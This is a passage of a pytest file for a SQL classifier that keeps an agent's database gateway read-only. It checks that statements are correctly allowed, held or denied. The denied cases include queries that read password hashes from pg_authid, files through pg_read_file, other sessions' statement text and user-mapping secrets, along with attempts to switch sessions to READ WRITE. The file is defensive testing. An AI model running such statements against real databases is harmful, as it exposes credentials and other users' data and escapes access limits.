_MORE_KEYWORDS = ["returning", "union", "for", "explain", "analyze", "begin", "commit", "copy", "to", "stdout"]
_EVEN_MORE = ["program", "create", "table", "drop", "grant", "role", "do", "lateral", "join", "on"]
_ATOMS = [
    "t",
    "u",
    "x",
    "(",
    ")",
    ",",
    ";",
    "*",
    "=",
    "1",
    "'a'",
    "$$x$$",
    "nextval('s')",
    "lower(x)",
    "pg_read_file('f')",
]
SQL_WORDS = _KEYWORDS + _MORE_KEYWORDS + _EVEN_MORE + _ATOMS


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(SQL_WORDS), max_size=14).map(" ".join))
def test_sql_like_text_never_allows_unsafe_calls(text: str) -> None:
    """Whatever parses, a request calling pg_read_file or nextval is never ALLOWED."""
    try:
        result = run(text)
    except UnparsableStatement:
        return
    assert isinstance(result, Classification)
    if result.verdict is ALLOWED:
        assert "pg_read_file" not in result.functions
        assert "nextval" not in result.functions or result.statement_types == ("EXPLAIN",)
        assert len(result.statement_types) == 1


@pytest.mark.parametrize("call", ["pg_partition_ancestors(1)", "pg_catalog.pg_table_size(1)", "pg_relation_size(1)"])
def test_catalog_introspection_functions_are_reads_despite_volatility(call: str) -> None:
    """psql's \\d calls these; PostgreSQL marks them volatile only because they read live catalog state."""
    catalog = FakeCatalog({("pg_catalog", name): "v" for name in CATALOG_INTROSPECTION_FUNCTIONS})
    assert classify(f"SELECT {call}", catalog).verdict == Verdict.ALLOWED


def test_introspection_exception_is_narrow() -> None:
    catalog = FakeCatalog({("pg_catalog", "pg_table_size"): "v", ("public", "pg_table_size"): "v"})
    assert classify("SELECT public.pg_table_size(1)", catalog).verdict == Verdict.HELD
    assert (
        classify("SELECT pg_stat_reset()", FakeCatalog({("pg_catalog", "pg_stat_reset"): "v"})).verdict == Verdict.HELD
    )


# --------------------------------------------------------------------------
# Transaction access modes: the gateway's sessions stay read-only
# --------------------------------------------------------------------------

READ_WRITE_SPELLINGS = [
    "BEGIN READ WRITE",
    "begin transaction read write",
    "begin work read write",
    "START TRANSACTION READ WRITE",
    "SET TRANSACTION READ WRITE",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    "BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE",
    "begin isolation level repeatable read read write deferrable",
    "START TRANSACTION READ ONLY, READ WRITE",  # PostgreSQL applies the last mode: this one writes
    "BEGIN READ WRITE, READ ONLY",  # PostgreSQL would end up read-only, but nobody needs to write READ WRITE
    "set transaction isolation level read committed, read write",
    "set session characteristics as transaction not deferrable read write",
]


@pytest.mark.parametrize("sql", READ_WRITE_SPELLINGS)
def test_read_write_is_denied_in_every_spelling(sql: str) -> None:
    """Every spelling of READ WRITE would lift the read role's read-only default: denied."""
    result = run(sql)
    assert result.verdict is DENIED, result.reasons
    assert any("READ WRITE is not allowed: the gateway's sessions are read-only" in r for r in result.reasons)


@pytest.mark.parametrize(
    "sql",
    [
        "BEGIN READ ONLY",
        "START TRANSACTION READ ONLY",
        "begin isolation level serializable, read only, deferrable",
        "begin isolation level read committed",
        "begin not deferrable",
        "START TRANSACTION READ ONLY, READ ONLY",
        "SET TRANSACTION READ ONLY",
        "set transaction isolation level repeatable read",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
        "set session characteristics as transaction isolation level serializable deferrable",
        "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'",
        "commit and chain",
    ],
)
def test_read_only_modes_isolation_levels_and_deferrable_stay_allowed(sql: str) -> None:
    """Only the access mode READ WRITE is refused; the other transaction modes change nothing the role can do."""
    assert run(sql).verdict is ALLOWED, run(sql).reasons


@pytest.mark.parametrize(
    "sql",
    [
        "SET transaction_read_only = off",
        "SET LOCAL transaction_read_only TO false",
        "set transaction_read_only to default",
        "RESET transaction_read_only",
        "SET default_transaction_read_only = off",
        "set session default_transaction_read_only = 'off'",
        "reset default_transaction_read_only",
        "select set_config('default_transaction_read_only', 'off', false)",
    ],
)
def test_read_only_settings_cannot_be_changed(sql: str) -> None:
    """The settings behind the access mode are not on the SET allowlist (and set_config is denied)."""
    assert run(sql).verdict is DENIED


def test_transaction_modes_pglast_does_not_produce_are_denied() -> None:
    """A mode the grammar never emits cannot be judged: fail closed (built by hand, as a future parser might)."""
    from policy.classifier import _transaction_mode_findings

    odd = ast.DefElem(defname="transaction_write_mode", arg=ast.A_Const(val=ast.Integer(ival=1)))
    assert [f.verdict for f in _transaction_mode_findings("BEGIN", [odd])] == [DENIED]
    text_mode = ast.DefElem(defname="transaction_read_only", arg=ast.A_Const(val=ast.String(sval="on")))
    assert [f.verdict for f in _transaction_mode_findings("BEGIN", [text_mode])] == [DENIED]


# --------------------------------------------------------------------------
# EXPLAIN options with PostgreSQL's semantics
# --------------------------------------------------------------------------


def options_of(sql: str) -> ExplainOptions:
    """explain_options of the one EXPLAIN statement in sql."""
    node = parse_sql(sql)[0].stmt
    assert isinstance(node, ast.ExplainStmt)
    return explain_options(node)


@pytest.mark.parametrize(
    ("options", "analyzes"),
    [
        ("ANALYZE false, ANALYZE true", True),  # PostgreSQL applies the last spelling
        ("ANALYZE off, ANALYZE", True),
        ("analyze 0, analyze 1", True),
        ("ANALYZE true, ANALYZE false", False),
        ("ANALYZE, ANALYZE off", False),
        ("ANALYZE on", True),
        ("ANALYZE ON", True),
        ("ANALYZE 'on'", True),
        ('ANALYZE "true"', True),
        ("ANALYZE TRUE", True),
        ("ANALYZE 1", True),
        ("ANALYZE", True),
        ("ANALYZE 'off'", False),
        ("ANALYZE FALSE", False),
        ("ANALYZE 0", False),
        ("analyse false", False),  # the grammar spells the British keyword "analyze"
        ("analyse", True),
        ("costs off, format json", False),
        # Values and names PostgreSQL rejects: judged as analyzing (fail closed).
        ("ANALYZE yes", True),
        ("ANALYZE no", True),
        ("ANALYZE 2", True),
        ("ANALYZE -1", True),
        ("ANALYZE 0.0", True),
        ("ANALYZE 'maybe'", True),
        ('"ANALYZE" false', True),
        ("costs maybe", True),
        ("format 'JSON'", True),
        ("format html", True),
        ("bogus", True),
        ("ANALYZE false, bogus off", True),
    ],
)
def test_explain_options_follow_postgresql(options: str, analyzes: bool) -> None:
    """The last spelling wins; unknown options and invalid values mean "analyzes"."""
    assert options_of(f"EXPLAIN ({options}) SELECT 1").analyze is analyzes


def test_explain_options_reports_every_option() -> None:
    """The helper gateway code can use to know what an EXPLAIN asks for."""
    parsed = options_of(
        "EXPLAIN (ANALYZE, VERBOSE on, COSTS off, SETTINGS, BUFFERS false, WAL, TIMING off, SUMMARY on, FORMAT yaml) "
        "SELECT 1"
    )
    assert parsed == ExplainOptions(
        analyze=True,
        verbose=True,
        costs=False,
        settings=True,
        buffers=False,
        wal=True,
        timing=False,
        summary=True,
        format="yaml",
    )
    assert options_of("EXPLAIN SELECT 1") == ExplainOptions()
    assert options_of("EXPLAIN (GENERIC_PLAN, MEMORY, SERIALIZE) SELECT 1") == ExplainOptions(
        generic_plan=True, memory=True, serialize="text"
    )
    bad = options_of("EXPLAIN (analyze off, format 'JSON', whatever) SELECT 1")
    assert bad.analyze is True
    assert bad.problems == ("format has an invalid value", "unrecognized option 'whatever'")


@pytest.mark.parametrize(
    ("sql", "analyze", "verbose"),
    [
        ("EXPLAIN ANALYZE VERBOSE SELECT 1", True, True),
        ("EXPLAIN ANALYSE SELECT 1", True, False),
        ("EXPLAIN VERBOSE SELECT 1", False, True),
        ("EXPLAIN SELECT 1", False, False),
    ],
)
def test_legacy_explain_syntax(sql: str, analyze: bool, verbose: bool) -> None:
    """EXPLAIN ANALYZE VERBOSE without parentheses reads like the parenthesised options."""
    parsed = options_of(sql)
    assert (parsed.analyze, parsed.verbose, parsed.problems) == (analyze, verbose, ())


@pytest.mark.parametrize(
    ("sql", "verdict"),
    [
        ("EXPLAIN (ANALYZE false, ANALYZE true) SELECT random()", HELD),
        ("EXPLAIN (ANALYZE false, ANALYZE true) SELECT nextval('s')", HELD),
        ("explain (analyze off, analyze) delete from t where id = 1", HELD),
        ("explain (analyze 0, analyze on) select * from t for update", HELD),
        ("EXPLAIN (ANALYZE yes) SELECT random()", HELD),
        ('EXPLAIN ("ANALYZE" off) SELECT random()', HELD),
        ("EXPLAIN (ANALYZE false, bogus) SELECT random()", HELD),
        ("EXPLAIN ANALYZE VERBOSE SELECT random()", HELD),
        ("EXPLAIN (ANALYZE true, ANALYZE false) SELECT random()", ALLOWED),
        ("EXPLAIN (ANALYZE on, ANALYZE 0) delete from t", ALLOWED),
        ("EXPLAIN (VERBOSE, COSTS off) SELECT random()", ALLOWED),
        ("EXPLAIN (ANALYZE false, ANALYZE true) SELECT 1", ALLOWED),
    ],
)
def test_explain_judges_the_statement_when_the_last_analyze_wins(sql: str, verdict: Verdict) -> None:
    """EXPLAIN (ANALYZE false, ANALYZE true) runs the statement: its volatile functions are held."""
    assert run(sql).verdict is verdict, run(sql).reasons


# --------------------------------------------------------------------------
# Catalogs and functions that expose stored values, statements or secrets
# --------------------------------------------------------------------------


def reference(entry: ExposingObject, schema: str | None) -> str:
    """A statement that reads the entry, qualified with schema when given."""
    name = f"{schema}.{entry.name}" if schema else entry.name
    if entry.kind is ObjectKind.RELATION:
        return f"SELECT * FROM {name}"
    return f"SELECT * FROM {name}(NULL)"


@pytest.mark.parametrize("entry", EXPOSING_OBJECTS, ids=lambda entry: f"{entry.kind}:{entry.name}")
def test_every_exposing_object_is_denied_unqualified_and_in_its_schema(entry: ExposingObject) -> None:
    """Each listed relation and function is denied, whatever the function catalog says of its volatility."""
    home = "public" if entry.schema == ANY_SCHEMA else entry.schema
    for sql in (reference(entry, None), reference(entry, home)):
        result = run(sql)
        assert result.verdict is DENIED, (sql, result.reasons)
        assert any(f"exposes {entry.exposes}" in reason for reason in result.reasons), result.reasons


EXPOSING_STATEMENTS = [
    "SELECT * FROM pg_stat_get_activity(NULL)",
    "select query from pg_catalog.pg_stat_get_activity(null) a where a.pid <> 0",
    "SELECT pg_stat_get_backend_activity(s) FROM pg_stat_get_backend_idset() s",
    "select (select max(query) from pg_stat_activity)",
    "select 1 where exists (select 1 from pg_catalog.pg_stats)",
    "with s as (select * from pg_stats) select count(*) from s",
    "select * from patients p, lateral (select * from pg_stat_get_activity(p.id)) a",
    "select * from pg_mcv_list_items((select stxdmcv from pg_statistic_ext_data limit 1))",
    "select * from rows from (generate_series(1, 2), pg_stat_get_activity(null))",
    "select * from public.pg_stat_statements",
    "select * from monitoring.pg_stat_statements(true)",
    "select subconninfo from pg_subscription",
    "select umoptions from pg_user_mappings",
    "select * from information_schema.user_mapping_options",
    "select rolpassword from pg_authid",
    "select * from pg_file_settings",
    "select * from pg_hba_file_rules",
    "select statement from pg_prepared_statements",
    "select lo_get(16400)",
    "TABLE pg_stats",
    "select s from pg_stats s",
    "copy (select * from pg_stats) to stdout",
    "copy pg_statistic to stdout",
    "declare c cursor for select * from pg_stat_activity",
    "explain select * from pg_stat_get_activity(null)",
    "explain select * from pg_stats",
    "select 1; select * from pg_stat_activity",
]


@pytest.mark.parametrize("sql", EXPOSING_STATEMENTS)
def test_exposing_objects_are_denied_wherever_they_appear(sql: str) -> None:
    """FROM, target list, subqueries, CTEs, LATERAL, ROWS FROM, COPY, cursors, plain EXPLAIN, batches."""
    result = run(sql)
    assert result.verdict is DENIED, result.reasons
    assert any("is denied: it exposes" in reason for reason in result.reasons), result.reasons


@pytest.mark.parametrize(
    "sql",
    [
        "select relname from pg_class",
        "select * from pg_catalog.pg_roles",
        "select name, setting from pg_settings",
        "select * from pg_namespace n join pg_class c on c.relnamespace = n.oid",
        "select * from pg_stat_user_tables",
        "select * from pg_locks",
        "select * from information_schema.tables",
        "select column_name from information_schema.columns where table_name = 'patients'",
        "select * from information_schema.user_mappings",
        "select * from pg_views",
        "select * from public.pg_stats",  # a user table of the same name, qualified
        "select * from reports.pg_stat_activity",
        "with pg_stats as (select 1 as a) select * from pg_stats",  # a CTE, not the catalog view
    ],
)
def test_ordinary_catalogs_stay_allowed(sql: str) -> None:
    """Introspection that psql, SQLAlchemy and JDBC need is not caught by the exposure list."""
    assert run(sql).verdict is ALLOWED, run(sql).reasons


def test_exposure_reason_names_what_was_written_and_what_it_exposes() -> None:
    """The reason tells the agent why, in its own spelling."""
    result = run("SELECT * FROM pg_catalog.pg_stat_get_activity(NULL)")
    assert result.reasons == (
        "function pg_catalog.pg_stat_get_activity() is denied: it exposes statement text of other sessions or "
        "earlier requests, with its literals (query: the function behind pg_stat_activity)",
    )


# --------------------------------------------------------------------------
# Views are classified through their definitions
# --------------------------------------------------------------------------

VIEWS: Mapping[tuple[str, str], str] = {
    ("public", "calm"): "SELECT id, lower(name) AS name FROM public.patients",
    ("public", "noisy"): "SELECT id, random() AS r FROM public.patients",
    ("public", "noisier"): "SELECT * FROM public.noisy",
    ("public", "noisiest"): "SELECT n.* FROM public.calm c JOIN public.noisier n ON n.id = c.id",
    ("public", "snooping"): "SELECT query FROM pg_stat_activity",
    ("public", "counting"): "SELECT nextval('s') AS n",
    ("public", "locking"): "SELECT * FROM public.patients FOR UPDATE",
    ("public", "broken"): "SELECT FROM WHERE",
    ("public", "two"): "SELECT 1; SELECT 2",
    ("public", "ouroboros"): "SELECT * FROM public.tail",
    ("public", "tail"): "SELECT * FROM public.ouroboros",
    ("public", "shadowed"): "WITH noisy AS (SELECT 1 AS id) SELECT * FROM noisy",
    ("public", "frozen"): "SELECT random() AS r",
    ("reports", "monthly_view"): "SELECT reports.monthly() AS m",
    ("pg_catalog", "pg_fake"): "SELECT random()",
    ("information_schema", "fake_info"): "SELECT random()",
}
RELATIONS = DictCatalog(
    tables={
        ("public", "patients"): ("id", "name"),
        ("public", "nodef"): ("a",),
        ("pg_catalog", "pg_class"): ("oid", "relname"),
    },
    views=VIEWS,
    kinds={("public", "frozen"): "m", ("public", "nodef"): "v"},
)


def run_with_views(sql: str) -> Classification:
    """Classify with the fake function catalog and the view catalog above."""
    return classify(sql, CATALOG, relations=RELATIONS)


@pytest.mark.parametrize(
    ("sql", "verdict", "reason"),
    [
        ("select * from calm", ALLOWED, None),
        ("select * from public.calm c where c.id = 1", ALLOWED, None),
        ("select * from noisy", HELD, "view public.noisy: volatile function random() may have side effects"),
        ("select r from public.noisy", HELD, "view public.noisy: volatile function random()"),
        ("select (select count(*) from noisy)", HELD, "view public.noisy"),
        ("select * from patients where id in (select id from noisy)", HELD, "view public.noisy"),
        ("with x as (select * from noisy) select * from x", HELD, "view public.noisy"),
        ("select * from noisier", HELD, "view public.noisier: view public.noisy: volatile function random()"),
        ("select * from noisiest", HELD, "view public.noisiest: view public.noisier: view public.noisy:"),
        ("select * from counting", HELD, "view public.counting: volatile function nextval()"),
        ("select * from locking", HELD, "view public.locking: SELECT ... FOR UPDATE takes row locks"),
        ("select * from snooping", DENIED, "view public.snooping: relation pg_stat_activity is denied"),
        ("select * from broken", HELD, "the definition of view public.broken cannot be inspected"),
        ("select * from two", HELD, "the definition of view public.two cannot be inspected"),
        ("select * from nodef", HELD, "the definition of view public.nodef cannot be inspected"),
        ("select * from ouroboros", HELD, "refers to itself"),
        ("select * from shadowed", ALLOWED, None),  # the CTE named noisy is not the view noisy
        ("with noisy as (select 1 as id) select * from noisy", ALLOWED, None),
        ("select * from frozen", ALLOWED, None),  # a materialized view does not run its query when read
        ("select * from reports.monthly_view", ALLOWED, None),  # stable function
        ("select * from pg_catalog.pg_fake", ALLOWED, None),  # PostgreSQL's own views are not expanded
        ("select * from information_schema.fake_info", ALLOWED, None),
        ("select * from no_such_relation", ALLOWED, None),
        ("explain select * from noisy", ALLOWED, None),  # planning runs nothing
        ("explain analyze select * from noisy", HELD, "view public.noisy"),
        ("explain (analyze false, analyze true) select * from noisy", HELD, "view public.noisy"),
        ("explain select * from snooping", DENIED, "view public.snooping"),
        ("explain select * from broken", HELD, "view public.broken"),
        ("declare c cursor for select * from noisy", HELD, "view public.noisy"),
        ("copy (select * from noisy) to stdout", HELD, None),
    ],
)
def test_views_are_classified_through_their_definitions(sql: str, verdict: Verdict, reason: str | None) -> None:
    """A view runs its query when selected: its findings count, named after the view."""
    result = run_with_views(sql)
    assert result.verdict is verdict, result.reasons
    if reason is not None:
        assert any(reason in text for text in result.reasons), result.reasons


def test_without_a_relation_catalog_views_are_judged_by_name() -> None:
    """The relations argument is optional: callers without a catalog keep the old behaviour."""
    assert run("select * from noisy").verdict is ALLOWED
    assert run_with_views("select * from noisy").verdict is HELD


def test_view_bodies_do_not_add_to_relations_or_functions() -> None:
    """relations and functions list what the statement names, not what its views read."""
    result = run_with_views("select * from noisier n join calm c using (id)")
    assert result.relations == ("calm", "noisier")
    assert result.functions == ()


def test_a_view_is_expanded_once_per_classification() -> None:
    """Each view's definition is looked up once, however often the statement names it."""

    class CountingViews(DictCatalog):
        """Remembers every definition asked for."""

        def __init__(self, **catalog: Any) -> None:
            super().__init__(**catalog)
            self.lookups: list[tuple[str, str]] = []

        def view_definition(self, schema: str, name: str) -> str | None:
            self.lookups.append((schema, name))
            return super().view_definition(schema, name)

    relations = CountingViews(tables={("public", "patients"): ("id", "name")}, views=VIEWS)
    result = classify("select * from noisy a, noisy b, noisier c", CATALOG, relations=relations)
    assert result.verdict is HELD
    assert sorted(relations.lookups) == [("public", "noisier"), ("public", "noisy")]


def test_views_nested_too_deeply_are_held() -> None:
    """Past MAX_VIEW_NESTING the chain is not followed: held (fail closed), never allowed."""
    depth = MAX_VIEW_NESTING + 2
    chain = {("public", f"v{i}"): f"SELECT * FROM public.v{i + 1}" for i in range(depth)}
    chain[("public", f"v{depth}")] = "SELECT 1 AS one"
    relations = DictCatalog(tables={}, views=chain)
    result = classify("select * from v0", CATALOG, relations=relations)
    assert result.verdict is HELD
    assert any(f"nested in more than {MAX_VIEW_NESTING} views" in reason for reason in result.reasons)
    shallow = DictCatalog(tables={}, views={**chain, ("public", "v3"): "SELECT 1 AS one"})
    assert classify("select * from v0", CATALOG, relations=shallow).verdict is ALLOWED


def test_view_resolution_follows_the_catalog_search_path() -> None:
    """An unqualified name is the relation PostgreSQL would find; a table shadowing a view is not expanded."""
    relations = DictCatalog(
        tables={("public", "noisy"): ("id",)},
        views={("reports", "noisy"): "SELECT random() AS r"},
        search_path=("pg_catalog", "public", "reports"),
    )
    assert classify("select * from noisy", CATALOG, relations=relations).verdict is ALLOWED
    assert classify("select * from reports.noisy", CATALOG, relations=relations).verdict is HELD


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT pg_advisory_unlock_all(); CLOSE ALL; UNLISTEN *; RESET ALL;",  # asyncpg's pool reset
        "DISCARD ALL",  # pgbouncer's server_reset_query
        "SELECT pg_catalog.pg_advisory_unlock_all()",
        "UNLISTEN *",
        "CLOSE ALL; DEALLOCATE ALL",
    ],
)
def test_connection_pool_resets_are_session_hygiene(sql: str) -> None:
    """Pools send these on every release; holding them would make a ticket per pooled query."""
    assert run(sql).verdict == Verdict.ALLOWED


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT pg_advisory_unlock_all(); SELECT * FROM t",  # a read in the batch: not a reset any more
        "SELECT pg_advisory_unlock_all() FROM t",  # runs once per row of t: reads it
        "SELECT pg_advisory_unlock_all() WHERE (SELECT count(*) FROM t) > 1",
        "CLOSE ALL; LISTEN channel",
        "RESET ALL; SET ROLE admin",
    ],
)
def test_a_reset_batch_with_anything_else_is_not_hygiene(sql: str) -> None:
    assert run(sql).verdict != Verdict.ALLOWED


@pytest.mark.parametrize(
    ("sql", "verdict"),
    [
        ("LOCK TABLE t IN ACCESS SHARE MODE", Verdict.ALLOWED),  # pg_dump: the lock a SELECT takes
        ("LOCK TABLE t IN ACCESS SHARE MODE NOWAIT", Verdict.HELD),
        ("LOCK TABLE t IN SHARE MODE", Verdict.HELD),
        ("LOCK TABLE t", Verdict.HELD),  # ACCESS EXCLUSIVE
        # pg_dump sets a setting only if the server has it:
        ("SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings "
         "WHERE name = 'restrict_nonsystem_relation_kind'", Verdict.ALLOWED),
        ("SELECT set_config(name, '1GB', false) FROM pg_settings WHERE name = 'work_mem'", Verdict.DENIED),
        ("SELECT set_config(name, '0', false) FROM pg_settings WHERE name = 'statement_timeout'", Verdict.DENIED),
        ("SELECT set_config(name, 'x', false) FROM pg_settings WHERE name LIKE 'application%'", Verdict.DENIED),
        ("SELECT set_config(name, setting, false) FROM pg_settings WHERE name = 'jit'", Verdict.DENIED),
        ("SELECT set_config(name, 'off', false) FROM pg_settings s WHERE name = 'jit'", Verdict.DENIED),
    ],
)  # fmt: skip
def test_pg_dump_session_set_up(sql: str, verdict: Verdict) -> None:
    assert run(sql).verdict == verdict, run(sql).reasons
